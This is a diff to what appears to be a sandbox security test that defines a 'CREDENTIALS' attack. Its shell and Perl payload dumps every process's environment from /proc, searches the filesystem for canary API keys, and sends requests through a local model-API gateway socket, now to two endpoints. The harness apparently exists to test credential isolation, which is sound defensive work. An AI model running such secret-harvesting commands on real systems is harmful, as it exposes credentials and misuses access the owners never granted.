@@ -99,13 +99,16 @@ CREDENTIALS = Attack(
     cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
     grep -raohE 'sk-[c]anary-[0-9a-f]+' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null
     perl -MIO::Socket::UNIX -e '
-        my $gateway = IO::Socket::UNIX->new(Peer => "/run/gw/gw.sock") or die "no gateway: $!\n";
         my $body = "{\"model\":\"m\",\"max_tokens\":1,\"messages\":[{\"role\":\"user\",\"content\":\"x\"}]}";
-        print $gateway "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" .
+        my $post = "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" .
             "Connection: close\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
-        local $SIG{ALRM} = sub { print "\nattacked credentials\n"; exit };
-        alarm 10;  # nobody is there to answer, and the gateway waits for them
-        print while <$gateway>;
+        $SIG{ALRM} = sub { print "\nattacked credentials\n"; exit };
+        alarm 10;  # nobody is there to answer the second, and the gateway waits for them
+        for my $asked ("GET /v1/organizations HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", $post) {
+            my $gateway = IO::Socket::UNIX->new(Peer => "/run/gw/gw.sock") or die "no gateway: $!\n";
+            print $gateway $asked;
+            print while <$gateway>;
+        }
         kill ALRM => $$;' 2>&1""",
     ROOMY,
 )
